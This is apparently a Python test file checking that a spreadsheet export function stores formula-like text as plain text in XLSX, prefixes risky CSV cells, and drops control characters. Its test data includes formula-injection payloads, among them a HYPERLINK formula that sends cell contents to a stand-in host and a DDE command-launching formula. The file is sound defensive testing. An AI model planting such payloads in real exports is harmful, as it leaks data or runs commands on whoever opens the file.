"""No spreadsheet the product writes can be turned against its reader (formulas stay text) or
broken by a control character stored before input refused them."""

import csv
import io

import openpyxl
import pytest

from forcegen.core.exports import tabular_response

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "=1+1", '=cmd|"/c calc"!A1']


def xlsx_cells(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def csv_rows(response):
    text = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def test_xlsx_writes_formula_like_text_as_text():
    response = tabular_response(
        filename="people", fmt="xlsx", headers=["name"], rows=[[a] for a in ATTACKS]
    )
    assert xlsx_cells(response)[1:] == [[(a, "s")] for a in ATTACKS]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_prefixes_cells_a_spreadsheet_would_evaluate(start):
    response = tabular_response(
        filename="people", fmt="csv", headers=["name", "age"], rows=[[f"{start}1+1", -3]]
    )
    assert csv_rows(response)[1] == [f"'{start}1+1", "-3"]


def test_csv_leaves_ordinary_text_alone():
    response = tabular_response(filename="p", fmt="csv", headers=["n"], rows=[["Nguyễn A-B"]])
    assert csv_rows(response)[1] == ["Nguyễn A-B"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_stored_control_characters_are_dropped_not_fatal(fmt):
    response = tabular_response(
        filename="p", fmt=fmt, headers=["n"], rows=[["Van\x01 An\x0b", "two\nlines"]]
    )
    rows = csv_rows(response) if fmt == "csv" else [[v for v, _ in r] for r in xlsx_cells(response)]
    assert rows[1] == ["Van An", "two\nlines"]
